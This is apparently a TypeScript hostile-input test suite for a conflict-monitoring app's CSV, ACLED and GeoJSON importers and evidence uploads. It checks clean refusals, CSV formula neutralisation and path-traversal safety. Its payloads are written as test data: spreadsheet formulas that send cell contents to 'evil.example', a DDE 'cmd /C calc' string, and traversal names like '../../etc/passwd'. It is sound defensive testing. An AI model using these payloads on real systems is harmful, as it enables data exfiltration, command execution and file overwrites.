/**
 * Hostile-input suite (issue 14, B3), for files: the importers (Truceline CSV, ACLED, GeoJSON) over
 * files made by fast-check from a valid row with hostile edits — garbage cells, wrong columns and
 * field counts, broken quoting, MGRS garbage, out-of-range and non-numeric coordinates, invalid
 * geometries (self-intersecting, open or degenerate rings, out-of-range vertices), Unicode edge
 * cases — must either import the file whole or refuse it naming FILE, LINE (CSV) and the field, and a
 * refused file writes nothing (every table's row count and the log size unchanged). Any other
 * exception is a defect (the importers' "500").
 *
 * Also: exported CSV and ACLED files neutralise spreadsheet formulas (cells starting with = + - @, tab
 * or CR) and import them back unchanged; evidence file names that traverse (`../../etc/passwd`,
 * absolute paths, NUL) never place a file outside the content-addressed store; oversized uploads
 * answer 413 problem+json and leave no file.
 *
 * Quick by default (CI); `TRUCELINE_SUITE=full` runs ten times as many files.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { sampleInput, startTestApp, type TestApp } from '../support/app.js';
import { tableCounts } from '../support/counts.js';
import { describeEachDialect } from '../support/databases.js';
import { CONSOLE_ACTOR } from '../../src/cli/runtime.js';
import { ACLED_COLUMNS } from '../../src/monitoring/import/acled.js';
import { csvLine, parseCsv, restoreFormula } from '../../src/monitoring/import/csv-parse.js';
import {
  allReports,
  exportReports,
  ImportFileError,
  importFile,
  type ImportFormat,
} from '../../src/monitoring/import/importer.js';

const FULL = process.env.TRUCELINE_SUITE === 'full';
const FILES_PER_FORMAT = FULL ? 400 : 40;
const SEED = Number(process.env.TRUCELINE_SUITE_SEED ?? 20261204);

// --- Valid rows to start from ----------------------------------------------------------------------

const CSV_BASE: Record<string, string> = {
  observed_from: '2026-11-24T22:10:00Z',
  time_precision: 'exact',
  lon: '38.08',
  lat: '48.36',
  uncertainty_m: '500',
  mgrs: '',
  area: '',
  smm: 'explosion_impact',
  events: '2',
  reporter: 'Patrol 3',
  reporter_kind: 'patrol',
  source: 'JMVC patrol team 3',
  reliability: 'B',
  independence_group: 'jmvc-team-3',
  credibility: '2',
  narrative: 'Two impacts north-east of the town.',
  language: 'en',
};
const ACLED_BASE: Record<string, string> = {
  event_id_cnty: 'UKR100001',
  event_date: '2026-11-20',
  year: '2026',
  time_precision: '1',
  disorder_type: 'Political violence',
  event_type: 'Explosions/Remote violence',
  sub_event_type: 'Shelling/artillery/missile attack',
  actor1: 'Military Forces of Russia (2000-)',
  inter1: '8',
  actor2: 'Civilians (Ukraine)',
  inter2: '7',
  interaction: '78',
  civilian_targeting: 'Civilian targeting',
  iso: '804',
  region: 'Europe',
  country: 'Ukraine',
  admin1: 'Donetsk',
  admin2: 'Bakhmutskyi',
  admin3: 'Bakhmutska',
  location: 'Bakhmut',
  latitude: '48.5956',
  longitude: '38.0000',
  geo_precision: '1',
  source: 'Ukrinform; Suspilne',
  source_scale: 'National',
  notes: 'On 20 November 2026, shelling damaged two houses, "and a school".',
  fatalities: '0',
  tags: '',
  timestamp: '1764000000',
};

// --- Hostile cells and geometries ------------------------------------------------------------------

const EDGE = [
  '\ud800',
  'x\u0000y',
  '\u202e',
  '\u200b',
  '👩‍👩‍👧‍👦',
  'NaN',
  'Infinity',
  '1e309',
  '-0',
  '99999999999999999999',
  '0x10',
  ' 48.3 ',
  '48,36',
  '=HYPERLINK("http://x")',
  '../../etc/passwd',
  '"',
  '""',
  'a"b',
  '\r',
  '\n',
  ',',
  '',
];
const MGRS_GARBAGE = [
  '37U DP 29836 54052',
  '37U DP 2983 540521',
  '99Z ZZ 1 1',
  '37I DP 1 1',
  '0U DP 1 1',
  '37UDP',
  '37U DP ',
  '37U DP 123456789012 123456789012',
  'MGRS',
  '37u dp 29836 54052',
  '37U\u0000DP',
  '٣٧U DP ٢٩٨٣٦ ٥٤٠٥٢',
];
const ring = (pts: number[][]) => ({ type: 'Polygon', coordinates: [pts] });
const GEOMETRIES: unknown[] = [
  ring([
    [38, 48],
    [38.1, 48.1],
    [38.1, 48],
    [38, 48.1],
    [38, 48],
  ]), // a bow tie: self-intersecting
  ring([
    [38, 48],
    [38.1, 48],
    [38.1, 48.1],
  ]), // not closed
  ring([
    [38, 48],
    [38, 48],
    [38, 48],
    [38, 48],
  ]), // degenerate
  ring([
    [200, 48],
    [201, 48],
    [201, 95],
    [200, 48],
  ]), // out of range
  ring([]),
  { type: 'Polygon', coordinates: [] },
  { type: 'Polygon', coordinates: [[['38', '48']]] },
  { type: 'Polygon', coordinates: 'POLYGON((38 48, 39 48, 39 49, 38 48))' },
  { type: 'Point', coordinates: [38.08] },
  { type: 'Point', coordinates: [Number.POSITIVE_INFINITY, 48] },
  { type: 'Point', coordinates: [38.08, 95] },
  { type: 'Point', coordinates: [-181, 48] },
  { type: 'Point', coordinates: ['38', '48'] },
  { type: 'LineString', coordinates: [[38, 48]] },
  { type: 'GeometryCollection', geometries: [] },
  {
    type: 'Polygon',
    coordinates: [
      [
        [Number.MAX_VALUE, 0],
        [0, Number.MAX_VALUE],
        [0, 0],
        [Number.MAX_VALUE, 0],
      ],
    ],
  },
  null,
  42,
  [],
];
const cell = fc.oneof(
  fc.constantFrom(...EDGE),
  fc.constantFrom(...MGRS_GARBAGE),
  fc.constantFrom(...GEOMETRIES).map((g) => JSON.stringify(g) ?? ''),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.double().map(String),
);

/** A CSV row from a valid base with hostile cells in some columns, or a row of the wrong width. */
function hostileRow(base: Record<string, string>, columns: readonly string[]): fc.Arbitrary<string[]> {
  const valid = columns.map((c) => base[c] ?? '');
  return fc.oneof(
    { weight: 6, arbitrary: fc.constant(valid) },
    {
      weight: 6,
      arbitrary: fc
        .array(fc.tuple(fc.nat(columns.length - 1), cell), { minLength: 1, maxLength: 3 })
        .map((edits) => {
          const row = [...valid];
          for (const [i, v] of edits) row[i] = v;
          return row;
        }),
    },
    { weight: 1, arbitrary: fc.array(cell, { maxLength: columns.length + 3 }) },
  );
}

/** The text of a whole CSV file, sometimes with its header or quoting broken. */
function hostileCsv(base: Record<string, string>, columns: readonly string[]): fc.Arbitrary<string> {
  const rows = fc.array(hostileRow(base, columns), { minLength: 1, maxLength: 6 });
  const header = fc.oneof(
    { weight: 8, arbitrary: fc.constant([...columns]) },
    { weight: 1, arbitrary: fc.shuffledSubarray([...columns, 'colour', 'lat ', '\ufefflon']) },
  );
  return fc
    .tuple(header, rows, fc.constantFrom('\r\n', '\n'), fc.constantFrom('', '', '', '"', '\u0000', 'a"b,"'))
    .map(([h, rs, eol, tail]) => `${[csvLine(h), ...rs.map(csvLine)].join(eol)}${eol}${tail}`);
}

function hostileGeoJson(): fc.Arbitrary<string> {
  const { location: _l, ...props } = sampleInput();
  const feature = fc.record({
    type: fc.oneof(fc.constant('Feature'), fc.constant('Feature'), fc.constant('feature')),
    geometry: fc.oneof(
      fc.constant({ type: 'Point', coordinates: [38.08, 48.36] }),
      fc.constantFrom(...GEOMETRIES),
    ),
    properties: fc.oneof(
      fc.constant(props),
      fc
        .tuple(fc.constantFrom(...Object.keys(props), 'location', 'derived'), fc.oneof(cell, fc.jsonValue()))
        .map(([k, v]) => ({ ...props, [k]: v })),
      fc.jsonValue(),
    ),
  });
  return fc.oneof(
    {
      weight: 8,
      arbitrary: fc
        .array(feature, { minLength: 1, maxLength: 5 })
        .map((features) => JSON.stringify({ type: 'FeatureCollection', features })),
    },
    { weight: 1, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v) ?? '') },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '{"type":"FeatureCollection","features":[',
        '',
        '\ud800',
        '{"type":"FeatureCollection","features":{}}',
      ),
    },
  );
}

// --- Checks -----------------------------------------------------------------------------------------

const changedCounts = (a: Record<string, number>, b: Record<string, number>) =>
  Object.keys(b)
    .filter((k) => a[k] !== b[k])
    .map((k) => `${k} ${a[k]}→${b[k]}`);

/** A spreadsheet would run this cell as a formula (a plain number such as -12.5 is not one). */
const FORMULA = /^[=+\-@\t\r]/;
const isFormula = (v: string) => FORMULA.test(v) && !/^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(v);

/** Every file under a directory, relative to it. */
function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

describeEachDialect('hostile-input suite (files)', (dialect) => {
  let t: TestApp;
  let dir: string;
  let monitor: string;
  beforeAll(async () => {
    t = await startTestApp(dialect, { monitoring: {} });
    monitor = await t.tokenFor('JMVC', ['monitor']);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'truceline-hostile-'));
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const FORMATS: { format: ImportFormat; text: fc.Arbitrary<string> }[] = [
    { format: 'csv', text: hostileCsv(CSV_BASE, Object.keys(CSV_BASE)) },
    { format: 'acled', text: hostileCsv(ACLED_BASE, ACLED_COLUMNS) },
    { format: 'geojson', text: hostileGeoJson() },
  ];

  it('imports the valid base rows of every format', async () => {
    const valid = [
      ['csv', `${csvLine(Object.keys(CSV_BASE))}\r\n${csvLine(Object.values(CSV_BASE))}\r\n`],
      [
        'acled',
        `${csvLine([...ACLED_COLUMNS])}\r\n${csvLine(ACLED_COLUMNS.map((c) => ACLED_BASE[c] ?? ''))}\r\n`,
      ],
      [
        'geojson',
        JSON.stringify({
          type: 'FeatureCollection',
          features: [
            {
              type: 'Feature',
              geometry: { type: 'Point', coordinates: [38.08, 48.36] },
              properties: { ...sampleInput(), location: undefined },
            },
          ],
        }),
      ],
    ] as const;
    for (const [format, text] of valid) {
      const file = path.join(dir, `valid.${format}`);
      fs.writeFileSync(file, text);
      const result = await importFile(t.services.monitoring.reports, CONSOLE_ACTOR, file, {
        format,
        dryRun: true,
      });
      expect(result.problems, format).toEqual([]);
      expect(result.accepted, format).toBe(1);
    }
  });

  it(
    'imports a hostile file whole or refuses it naming file, line and field, writing nothing',
    async () => {
      const defects: string[] = [];
      let files = 0;
      let refused = 0;
      let imported = 0;
      let partialWrites = 0;
      let crashes = 0;
      for (const [k, { format, text }] of FORMATS.entries()) {
        for (const [i, content] of fc.sample(text, { numRuns: FILES_PER_FORMAT, seed: SEED + k }).entries()) {
          const file = path.join(dir, `hostile-${i}.${format}`);
          fs.writeFileSync(file, content);
          files += 1;
          const what = `${format} file ${JSON.stringify(content).slice(0, 400)}`;
          const before = await tableCounts(t);
          let problems;
          /** Whole-file refusals (encoding, quoting, header) may not know a field; a rejected row must. */
          let rowLevel = true;
          try {
            const result = await importFile(t.services.monitoring.reports, CONSOLE_ACTOR, file, { format });
            if (result.rejected === 0) {
              imported += 1;
              continue;
            }
            problems = result.problems;
          } catch (err) {
            if (!(err instanceof ImportFileError)) {
              crashes += 1;
              defects.push(`${String(err)} for ${what}`);
              continue;
            }
            problems = err.problems;
            rowLevel = false;
          }
          refused += 1;
          const changed = changedCounts(before, await tableCounts(t));
          if (changed.length > 0) {
            partialWrites += 1;
            defects.push(`partial write (${changed.join(', ')}) for ${what}`);
          }
          if (problems.length === 0) defects.push(`refused without a problem for ${what}`);
          for (const p of problems) {
            const where =
              p.file === file &&
              (format === 'geojson' ? p.path !== undefined : Number.isInteger(p.line) && (p.line ?? 0) >= 1);
            if (rowLevel && (p.path === '' || p.reason === ''))
              defects.push(`row problem naming no field ${JSON.stringify(p)} for ${what}`);
            if (!where) defects.push(`problem without file:line ${JSON.stringify(p)} for ${what}`);
          }
        }
      }
      console.log(
        `hostile-input suite (files) [${dialect}]: ${files} files (${refused} refused, ${imported} imported whole), ${crashes} crashes, ${partialWrites} partial writes (seed ${SEED})`,
      );
      expect(defects).toEqual([]);
    },
    FULL ? 3_600_000 : 600_000,
  );

  it('exports CSV and ACLED with formula cells neutralised, and imports them back unchanged', async () => {
    const starts = ['=', '+', '-', '@', '\t', '\r'];
    const payloads = starts.map((s) => `${s}HYPERLINK("http://evil.example/?"&A1)`);
    for (const [i, p] of payloads.entries()) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/reports',
        headers: { authorization: `Bearer ${monitor}` },
        payload: sampleInput({
          narrative: p,
          reporter: { name: `${starts[i] ?? ''}cmd|' /C calc'!A0`, kind: 'patrol' },
          externalId: `inj-${i}`,
          externalSystem: 'hostile',
        }),
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    for (const format of ['csv', 'acled'] as const) {
      const out = path.join(dir, `export.${format}`);
      await exportReports(allReports(t.services.monitoring.reports, t.services.database.db), format, out);
      const records = parseCsv(fs.readFileSync(out, 'utf8'));
      const formulas = records.flatMap((r) =>
        r.fields.filter(isFormula).map((f) => `line ${r.line}: ${JSON.stringify(f)}`),
      );
      expect(formulas, format).toEqual([]);
      const narratives = records.flatMap((r) => r.fields).filter((f) => f.includes('HYPERLINK'));
      expect(narratives.length, format).toBeGreaterThanOrEqual(payloads.length);
    }
    // Read back, each neutralised narrative is the text that was filed.
    const filed: string[] = [];
    for await (const page of allReports(t.services.monitoring.reports, t.services.database.db))
      filed.push(...page.map((r) => String((r.submitted as { narrative?: string }).narrative ?? '')));
    const out = path.join(dir, 'roundtrip.csv');
    await exportReports(allReports(t.services.monitoring.reports, t.services.database.db), 'csv', out);
    const [header, ...rows] = parseCsv(fs.readFileSync(out, 'utf8'));
    const at = header?.fields.indexOf('narrative') ?? -1;
    const restored = rows.map((r) => restoreFormula(r.fields[at] ?? ''));
    expect(restored.sort()).toEqual(filed.sort());
    expect(restored.filter((n) => n.includes('HYPERLINK')).length).toBeGreaterThanOrEqual(4);
  });

  it('keeps evidence inside its store whatever the file name, and leaves no file of an oversized upload', async () => {
    const evidenceDir = path.join(t.dataDir, 'evidence');
    const names = fc.oneof(
      fc.constantFrom(
        '../../etc/passwd',
        '../../../../../../tmp/escaped',
        '/etc/passwd',
        '/tmp/escaped',
        'C:\\Windows\\system32\\escaped',
        '..\\..\\escaped',
        'a\u0000.jpg',
        '%2e%2e%2fescaped',
        '....//....//escaped',
        '\u202egpj.exe',
        'x'.repeat(255),
        '.',
        '..',
        'con',
        'a/b/c.jpg',
      ),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
    );
    const samples = fc.sample(names, { numRuns: FULL ? 200 : 30, seed: SEED });
    const auth = { authorization: `Bearer ${monitor}` };
    const defects: string[] = [];
    for (const [i, filename] of samples.entries()) {
      const bytes = Buffer.from(`evidence ${i} ${filename}`);
      const sha256 = crypto.createHash('sha256').update(bytes).digest('hex');
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/reports',
        headers: auth,
        payload: sampleInput({
          evidence: [
            {
              sha256,
              filename,
              mediaType: 'image/jpeg',
              capturedAt: '2026-11-25T20:00:00Z',
              collector: 'Patrol 3',
            },
          ],
        }),
      });
      if (res.statusCode >= 500) defects.push(`${res.statusCode} declaring ${JSON.stringify(filename)}`);
      if (res.statusCode !== 201) continue;
      const reportId = res.json<{ report: { id: string } }>().report.id;
      const up = await t.app.inject({
        method: 'PUT',
        url: `/api/v1/reports/${reportId}/evidence/${sha256}`,
        headers: { ...auth, 'content-type': 'image/jpeg' },
        payload: bytes,
      });
      if (up.statusCode !== 200)
        defects.push(`${up.statusCode} uploading ${JSON.stringify(filename)}: ${up.body}`);
      const list = await t.app.inject({ url: `/api/v1/reports/${reportId}/evidence`, headers: auth });
      const evidenceId = list.json<{ evidence: { id: string }[] }>().evidence[0]?.id ?? '';
      const derived = await t.app.inject({
        method: 'POST',
        url: `/api/v1/evidence/${evidenceId}/derived`,
        headers: auth,
        payload: {
          contentBase64: Buffer.from(`derived ${i}`).toString('base64'),
          filename,
          mediaType: 'image/jpeg',
          derivation: 'cropped',
        },
      });
      if (derived.statusCode >= 500)
        defects.push(`${derived.statusCode} deriving ${JSON.stringify(filename)}`);
      const download = await t.app.inject({ url: `/api/v1/evidence/${evidenceId}/content`, headers: auth });
      const disposition = String(download.headers['content-disposition'] ?? '');
      if (
        download.statusCode !== 200 ||
        /[\r\n]/.test(disposition) ||
        (disposition.match(/"/g) ?? []).length !== 2
      )
        defects.push(
          `download of ${JSON.stringify(filename)}: ${download.statusCode} ${JSON.stringify(disposition)}`,
        );
    }
    const outside = filesUnder(t.dataDir).filter(
      (f) =>
        !/^evidence\/sha256\/[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{64}$/.test(f) &&
        !f.startsWith('keys') &&
        !f.endsWith('.key'),
    );
    expect(
      outside.filter((f) => f.startsWith('evidence')),
      'files outside the content-addressed store',
    ).toEqual([]);
    expect(fs.existsSync('/tmp/escaped')).toBe(false);
    expect(defects).toEqual([]);

    // Oversized: the limit is 64 KiB in tests.
    const bytes = Buffer.from('a photograph of a crater, again');
    const sha256 = crypto.createHash('sha256').update(bytes).digest('hex');
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/reports',
      headers: auth,
      payload: sampleInput({
        evidence: [
          {
            sha256,
            filename: 'big.jpg',
            mediaType: 'image/jpeg',
            capturedAt: '2026-11-25T20:00:00Z',
            collector: 'Patrol 3',
          },
        ],
      }),
    });
    const reportId = res.json<{ report: { id: string } }>().report.id;
    const before = filesUnder(evidenceDir);
    for (const size of [64 * 1024 + 1, 1024 * 1024, 3 * 1024 * 1024]) {
      const big = await t.app.inject({
        method: 'PUT',
        url: `/api/v1/reports/${reportId}/evidence/${sha256}`,
        headers: { ...auth, 'content-type': 'application/octet-stream' },
        payload: Buffer.alloc(size, 1),
      });
      expect(big.statusCode, big.body).toBe(413);
      expect(big.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(big.json<{ status: number }>().status).toBe(413);
      expect(filesUnder(evidenceDir)).toEqual(before);
    }
  });
});
